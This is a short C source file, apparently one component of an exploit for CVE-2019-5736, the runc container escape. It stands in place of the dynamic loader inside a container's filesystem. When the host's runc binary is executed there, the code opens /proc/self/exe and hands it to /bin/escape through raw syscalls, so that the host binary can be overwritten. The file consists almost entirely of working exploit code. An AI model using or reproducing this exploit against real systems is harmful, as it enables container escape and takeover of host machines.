// SPDX-License-Identifier: Apache-2.0
/*
 * loader - what a root filesystem has in place of the dynamic loader (CVE-2019-5736)
 *
 * Whoever executes a program of the host's in there executes this instead.  It opens
 * the program and lets "escape self" try to write to it.  No library: it is loaded
 * where that program's loader should be.
 */
#include <fcntl.h>
#include <sys/syscall.h>

static long call(long number, const void *a, const void *b, long c)
{
	long ret;

	__asm__ volatile("syscall"
	                 : "=a"(ret)
	                 : "a"(number), "D"(a), "S"(b), "d"(c)
	                 : "rcx", "r11", "memory");
	return ret;
}

/* Nobody calls it, so the stack is not as after a call. */
__attribute__((force_align_arg_pointer)) void _start(void)
{
	const char *const argv[] = { "escape", "self", 0 };

	/* The first that is free: 3. */
	call(SYS_open, "/proc/self/exe", (void *)O_RDONLY, 0);
	call(SYS_execve, "/bin/escape", argv, 0);
	call(SYS_exit, (void *)9, 0, 0);
	__builtin_unreachable();
}
